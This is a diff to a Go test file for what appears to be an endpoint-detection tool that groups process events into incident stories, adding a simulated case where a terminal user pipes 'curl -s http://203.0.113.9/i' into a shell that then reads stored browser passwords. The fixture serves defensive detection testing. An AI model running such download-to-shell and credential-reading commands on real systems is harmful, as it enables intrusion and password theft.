@@ -333,3 +333,45 @@ func TestLongStorySaysWhatItLeftOut(t *testing.T) {
 	}
 	wantMembers(t, tp, s, []string{"tool", "400"}, nil)
 }
+
+// pipe says that one program reads what another writes.
+func (t *tape) pipe(reader, writer string) event.Stamped {
+	return t.add(event.Event{Kind: event.ProcessPipe, Actor: *t.procs[reader], Parent: t.up(reader), Target: *t.procs[writer], Upstream: []string{t.procs[writer].Path}})
+}
+
+// pipedDownload: somebody at a terminal feeds a shell with a download, and only what that shell then does is found.
+func pipedDownload() *tape {
+	t := newTape(hostA)
+	t.start("login", "init", 60, "/usr/bin/bash", "-bash")
+	t.procs["login"].TTY = "/dev/pts/0"
+	t.like(30, "login", 1000, "/usr/bin/ls", "ls")
+	t.start("curl", "login", 70, "/usr/bin/curl", "curl -s http://203.0.113.9/i")
+	t.start("sh", "login", 71, "/usr/bin/dash", "sh")
+	t.pipe("sh", "curl")
+	t.connect("curl", "203.0.113.9:80")
+	t.start("id", "sh", 72, "/usr/bin/id", "id")
+	t.start("cat", "sh", 73, "/usr/bin/cat", "cat "+passwords)
+	t.detect(t.reads("cat", passwords), "browser passwords read", detection.High, "T1555.003")
+	return t
+}
+
+func TestShellFedByADownloadIsInTheStoryWithIt(t *testing.T) {
+	tp := pipedDownload()
+	s := tp.story()
+	wantMembers(t, tp, s, []string{"curl", "sh", "id", "cat", "login"}, nil)
+	wantEdge(t, s, incident.EdgePiped, 1)
+	if n := processes(s); n > 8 {
+		t.Errorf("%d processes are shown; want no ls", n)
+	}
+}
+
+// What feeds the shell it started, as a CI agent does, is its parent and no part of a pipeline.
+func TestAgentThatFeedsItsShellIsNoPipeline(t *testing.T) {
+	tp := oddInPipedShell()
+	tp.pipe("shell", "agent")
+	s := tp.story()
+	wantMembers(t, tp, s, []string{"odd"}, []string{"agent"})
+	if n := processes(s); n > 20 || s.LeftOut.Beside != 240 {
+		t.Errorf("%d processes are shown, %d beside", n, s.LeftOut.Beside)
+	}
+}
